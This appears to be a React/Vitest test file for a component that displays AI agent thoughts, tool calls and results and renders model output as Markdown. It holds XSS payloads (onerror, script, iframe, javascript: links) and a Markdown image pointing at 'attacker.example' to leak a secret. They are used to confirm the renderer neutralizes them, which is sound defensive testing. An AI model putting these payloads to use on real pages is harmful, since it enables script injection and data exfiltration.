import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { storedInteraction } from '../../test/fixtures';
import { AgentInteraction } from './AgentInteraction';
import { Markdown } from './Markdown';
import { MarkdownView } from './MarkdownView';

describe('AgentInteraction', () => {
  it('shows a thought with its agent and time', () => {
    render(<AgentInteraction interaction={storedInteraction(2, { content: 'Let me look at App.tsx' })} />);
    expect(screen.getByRole('img', { name: 'Thought' }).tagName.toLowerCase()).toBe('svg');
    expect(screen.getByText('Planner')).toBeInTheDocument();
    expect(screen.getByText('Let me look at App.tsx')).toBeInTheDocument();
    expect(screen.getByTestId('agent-interaction').querySelector('time')).toHaveAttribute(
      'datetime',
      '2025-12-28T10:30:15.123Z',
    );
  });

  it('shows a tool call with its name and arguments as formatted JSON', () => {
    render(
      <AgentInteraction
        interaction={storedInteraction(3, {
          agent_name: 'Coder',
          message_type: 'tool_call',
          content: 'Calling: read_file',
          tool_name: 'read_file',
          tool_arguments: { filepath: 'src/App.tsx', lines: [1, 2] },
        })}
      />,
    );
    expect(screen.getByRole('img', { name: 'Tool call' })).toBeInTheDocument();
    expect(screen.getByText('read_file')).toBeInTheDocument();
    const pre = screen.getByTestId('agent-interaction').querySelector('pre');
    expect(pre?.textContent).toBe(JSON.stringify({ filepath: 'src/App.tsx', lines: [1, 2] }, null, 2));
  });

  it('shows a failed tool result distinctly from a successful one, in SVG icons, not emoji', () => {
    const { container } = render(
      <>
        <AgentInteraction
          interaction={storedInteraction(4, {
            agent_name: 'System',
            message_type: 'tool_response',
            content: 'Wrote a.txt (3 bytes).',
            tool_name: 'write_file',
          })}
        />
        <AgentInteraction
          interaction={storedInteraction(5, {
            agent_name: 'System',
            message_type: 'tool_response',
            content: "Error: file 'b.txt' does not exist",
            tool_name: 'read_file',
            failed: true,
          })}
        />
      </>,
    );
    const [ok, failed] = screen.getAllByTestId('agent-interaction');
    expect(ok).toHaveAttribute('data-failed', 'false');
    expect(failed).toHaveAttribute('data-failed', 'true');
    expect(screen.getByRole('img', { name: 'Tool result' })).toBeInTheDocument();
    expect(screen.getByRole('img', { name: 'Tool failed' })).toBeInTheDocument();
    expect(failed).toHaveTextContent('Tool failed: read_file');
    // No emoji: Linux desktops without an emoji font draw them as empty boxes.
    expect(container.textContent).not.toMatch(/\p{Extended_Pictographic}/u);
  });

  it('collapses a long tool response and expands it to the full text', async () => {
    const long = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n');
    render(
      <AgentInteraction
        interaction={storedInteraction(4, {
          agent_name: 'System',
          message_type: 'tool_response',
          tool_name: 'read_file',
          content: long,
        })}
      />,
    );
    expect(screen.getByRole('img', { name: 'Tool result' })).toBeInTheDocument();
    const pre = () => screen.getByTestId('agent-interaction').querySelector('pre');
    expect(pre()?.textContent).not.toContain('line 40');
    await userEvent.click(screen.getByRole('button', { name: /show full output/i }));
    expect(pre()?.textContent).toBe(long);
    await userEvent.click(screen.getByRole('button', { name: /collapse/i }));
    expect(pre()?.textContent).not.toContain('line 40');
  });

  it('shows a short tool response in full without a toggle', () => {
    render(
      <AgentInteraction
        interaction={storedInteraction(5, { message_type: 'tool_response', content: 'ok' })}
      />,
    );
    expect(screen.queryByRole('button')).toBeNull();
    expect(screen.getByText('ok')).toBeInTheDocument();
  });

  it('renders model text as text, never as HTML', () => {
    const { container } = render(
      <AgentInteraction interaction={storedInteraction(6, { content: '<img src=x onerror="alert(1)">' })} />,
    );
    expect(container.querySelector('img')).toBeNull();
  });
});

describe('Markdown', () => {
  it('shows the text at once and its Markdown once the renderer has loaded', async () => {
    const { container } = render(<Markdown text={'Some **bold** <b>raw</b>'} />);
    expect(container).toHaveTextContent('Some **bold** <b>raw</b>');
    expect(await screen.findByText('bold', { selector: 'strong' })).toBeInTheDocument();
    expect(container.querySelector('b')).toBeNull();
  });

  it('renders Markdown', () => {
    const { container } = render(<MarkdownView text={'# Title\n\nSome **bold** and `code`.'} />);
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelector('code')?.textContent).toBe('code');
  });

  it('never turns raw HTML from the model into elements', () => {
    const { container } = render(
      <MarkdownView
        text={'Hi <script>window.pwned=1</script><img src=x onerror="window.pwned=1"> <b>bold?</b>\n\n<iframe src="https://example.com"></iframe>'}
      />,
    );
    expect(container.querySelector('script, img, iframe, b')).toBeNull();
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it('drops javascript: links', () => {
    const { container } = render(<MarkdownView text={'[click](javascript:alert(1))'} />);
    const a = container.querySelector('a');
    expect(a?.getAttribute('href') ?? '').not.toMatch(/javascript:/i);
  });

  it('shows a remote image as a link and never loads it', () => {
    const { container } = render(
      <MarkdownView text={'Look: ![the secret](http://attacker.example/leak?d=s3cret) and ![](https://x.example/a.png)'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const links = [...container.querySelectorAll('a[data-testid="image-link"]')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'http://attacker.example/leak?d=s3cret',
      'https://x.example/a.png',
    ]);
    expect(links[0]?.textContent).toContain('the secret');
    expect(links[1]?.textContent).toContain('https://x.example/a.png');
    expect(links[0]?.getAttribute('rel')).toContain('noreferrer');
  });
});
